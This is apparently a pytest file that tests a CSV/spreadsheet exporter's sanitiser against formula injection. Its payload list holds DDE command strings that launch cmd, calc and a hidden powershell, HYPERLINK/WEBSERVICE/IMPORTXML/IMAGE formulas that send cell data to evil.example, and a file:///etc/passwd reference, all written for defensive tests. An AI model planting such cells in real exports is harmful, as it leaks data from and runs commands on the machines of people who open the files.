"""Two hundred cells that attack whoever opens a CSV, and those that must stay as they are."""

from __future__ import annotations

import csv
import io
import re
import uuid
from dataclasses import replace

import pytest

from core.results.files import CsvFile, SpreadsheetFile
from core.table import OutputLayout, Record
from core.table.inert import inert
from tests.core.table.reading import table_format

# From OWASP's page on CSV injection, PayloadsAllTheThings and the reports of HackerOne, in their kinds.
BODIES = [
    "1+1",
    "cmd|' /C calc'!A0",
    "cmd|' /C notepad'!'A1'",
    'cmd|"/c powershell.exe -w hidden $e=(New-Object System.Net.WebClient)"!_xlbgnm.A1',
    "rundll32|'URL.dll,OpenURL calc.exe'!A",
    "MSEXCEL|'\\..\\..\\..\\Windows\\System32\\cmd.exe /c calc.exe'!''",
    'HYPERLINK("http://evil.example/?x="&A1,"Click")',
    'HYPERLINK(CONCATENATE("http://evil.example?leak=",A1,B1),"Error: click for details")',
    'WEBSERVICE(CONCATENATE("http://evil.example/",A1))',
    'IMPORTXML(CONCAT("http://evil.example/?v=",CONCATENATE(A2:E2)),"//a/a10")',
    'IMPORTFEED(CONCAT("http://evil.example/?v=",CONCATENATE(A2:E2)))',
    'IMPORTHTML(CONCAT("http://evil.example/",CONCATENATE(A2:E2)),"table",1)',
    'IMPORTRANGE("https://docs.example/spreadsheets/d/x","A1:B2")',
    'IMPORTDATA("http://evil.example/")',
    'IMAGE("https://evil.example/?v="&INDIRECT("A2"))',
    'DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
    "SUM(1+9)*cmd|' /C calc'!A0",
    "'file:///etc/passwd'#$passwd.A1",
    "A1",
    "10+20+cmd|' /C calc'!A0",
]
STARTS = ["=", "+", "-", "@", "\t=", "\r=", "\n=", " =", "＝", "\ufeff＠"]
PAYLOADS = [start + body for start in STARTS for body in BODIES]

HARMLESS = [
    "",
    "hello",
    "a=b",
    "1+1",
    "x@example.org",
    "-5",
    "+3",
    "-1,234.56",
    "-0.5",
    "-.5",
    "+1e-3",
    "-12 %",
    "-3,5",
    "'=1+1",
    '"=1+1"',
    "<3",
    "'tis",
    "é = mc²",
    "- a list item is a formula to nobody?"[2:],
    "#1",
    "(-5)",
]
"""Cells that no program computes, or that are plain numbers."""


def test_there_are_two_hundred():
    assert len(set(PAYLOADS)) == 200


def seen(cell: str) -> str:
    """The cell from the first sign on that is seen."""
    return re.sub(r"^[\s\x00-\x20\u00a0\u200b\ufeff]+", "", cell)


def is_formula(cell: str) -> bool:
    return seen(cell)[:1] in tuple("=+-@＝＋－＠") and not re.fullmatch(r"[-+][0-9.,]+", cell)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_payload_is_made_inert(payload: str):
    assert is_formula(payload)
    assert inert(payload).startswith("'")
    assert inert(payload).replace("'", "") == payload.replace("'", "")
    for taken in ",;\t|\n":
        assert not any(map(is_formula, inert(payload).split(taken)))


@pytest.mark.parametrize(
    "start", ["\u00a0=", "\u200b=", "\x00=", "\u3000+", "\ufeff-", "\t", "\r", "\n", "﹦", "－", "＋", "  @"]
)
def test_signs_behind_what_nobody_sees_count_too(start: str):
    assert inert(f"{start}SUM(A1)") == f"'{start}SUM(A1)"


@pytest.mark.parametrize("cell", HARMLESS)
def test_other_cells_and_plain_numbers_stay(cell: str):
    assert inert(cell) == cell


@pytest.mark.parametrize("cell", ["-5-5", "+49 30 1234", "-1)", "--1", "-e5", "-１", "+1+cmd"])
def test_what_only_looks_like_a_number_is_made_inert(cell: str):
    assert inert(cell) == f"'{cell}"


@pytest.mark.parametrize(
    ("cell", "made"),
    [
        ("a;=1+1", "a;'=1+1"),
        ("a, -5, b", "a, -5, b"),
        ("list:\n- one\n- two", "list:\n'- one\n'- two"),
        ("-5\n=1", "'-5\n'=1"),
        ("a\t@x", "a\t'@x"),
        ("x = y; z - 1", "x = y; z - 1"),
    ],
)
def test_signs_behind_a_delimiter_are_made_inert_too(cell: str, made: str):
    assert inert(cell) == made


def written(delimiter: str, quoting: bool, cells: list[str]) -> bytes:
    header = ("=id", "text")
    fmt = replace(table_format(delimiter=delimiter), quoting=quoting, header=header)
    writer = SpreadsheetFile(fmt, OutputLayout(header, taxonomy="sentiment", scores="none"))
    records = [Record(n, n, 0, 0, [cell, f"before;{cell},{cell}\t{cell}"]) for n, cell in enumerate(cells, start=1)]
    return writer.begin() + writer.write(records, [["positive", "failed: =1+1", ""]] * len(records)) + writer.end()


@pytest.mark.parametrize("quoting", [True, False])
@pytest.mark.parametrize("delimiter", [",", ";", "\t", "|", ""])
def test_no_program_finds_a_formula_whatever_it_takes_for_the_delimiter(delimiter: str, quoting: bool):
    data = written(delimiter, quoting, PAYLOADS)
    assert data.startswith(b"\xef\xbb\xbf")
    text = data.decode("utf-8-sig")
    for taken in ",;\t|":
        rows = list(csv.reader(io.StringIO(text, newline=""), delimiter=taken))
        cells = [cell for row in rows for cell in row]
        assert cells
        assert [cell for cell in cells if is_formula(cell)] == []
    own = list(csv.reader(io.StringIO(text, newline=""), delimiter=delimiter or ","))
    assert own[0] == ["'=id", "text", "sentiment", "row_status", "flags"]
    assert [row[0] for row in own[1:]] == [inert(cell) for cell in PAYLOADS]
    assert [row[1].replace("'", "") for row in own[1:]] == [
        f"before;{cell},{cell}\t{cell}".replace("'", "") for cell in PAYLOADS
    ]


def test_the_exact_csv_changes_no_payload():
    header = ("id", "text")
    writer = CsvFile(replace(table_format(), header=header), OutputLayout(header, scores="none"))
    records = [Record(n, n, 0, 0, [str(uuid.uuid4()), cell]) for n, cell in enumerate(PAYLOADS, start=1)]
    data = writer.begin() + writer.write(records, [["", "", "", "ok", ""]] * len(records))
    rows = list(csv.reader(io.StringIO(data.decode(), newline="")))
    assert [row[1] for row in rows[1:]] == PAYLOADS
